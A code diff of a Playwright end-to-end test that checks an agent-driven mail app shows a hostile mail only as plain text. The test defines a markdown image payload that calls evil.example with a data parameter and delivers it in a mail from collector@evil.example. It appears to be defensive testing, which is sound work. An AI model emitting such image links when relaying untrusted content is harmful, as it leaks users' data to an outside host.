@@ -1,8 +1,10 @@
 import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { addToLog } from "./support/in-store.ts";
+import { newPage } from "./support/new-page.ts";
 import { openBrowser } from "./support/open-browser.ts";
 import { startBron, type StartedBron } from "./support/started-bron.ts";
+import { untilState } from "./support/until-state.ts";
 
 const image = "![x](https://evil.example/p.png?d=61000)";
 const hostile = {
@@ -24,7 +26,7 @@ describe("what the page shows of others' words", () => {
 
   it("X3 is text: no link, no image, nothing fetched by showing it, and nothing hidden or turned around", async () => {
     await bron.control("deliver", { account: "mara@lindqvist.example", mail: { ...hostile, to: "mara@lindqvist.example" } });
-    const page = await (await browser.newContext()).newPage();
+    const page = await newPage(browser);
     const asked: string[] = [];
     const dialogs: string[] = [];
     page.on("request", (request) => asked.push(request.url()));
@@ -35,7 +37,7 @@ describe("what the page shows of others' words", () => {
     await page.goto(bron.signInLink);
     await page.getByLabel("What is to be done?").fill("Find the newest mail from collector@evil.example and tell me what it says.");
     await page.getByRole("button", { name: "Begin" }).click();
-    await page.getByRole("status").filter({ hasText: /Done|Failed/ }).waitFor({ timeout: 30_000 });
+    await untilState(page, "Done");
     for (const details of await page.locator("details").all()) await details.evaluate((one) => one.setAttribute("open", ""));
     const words = await page.locator("main").innerText();
     expect(words).toContain("evil.example");
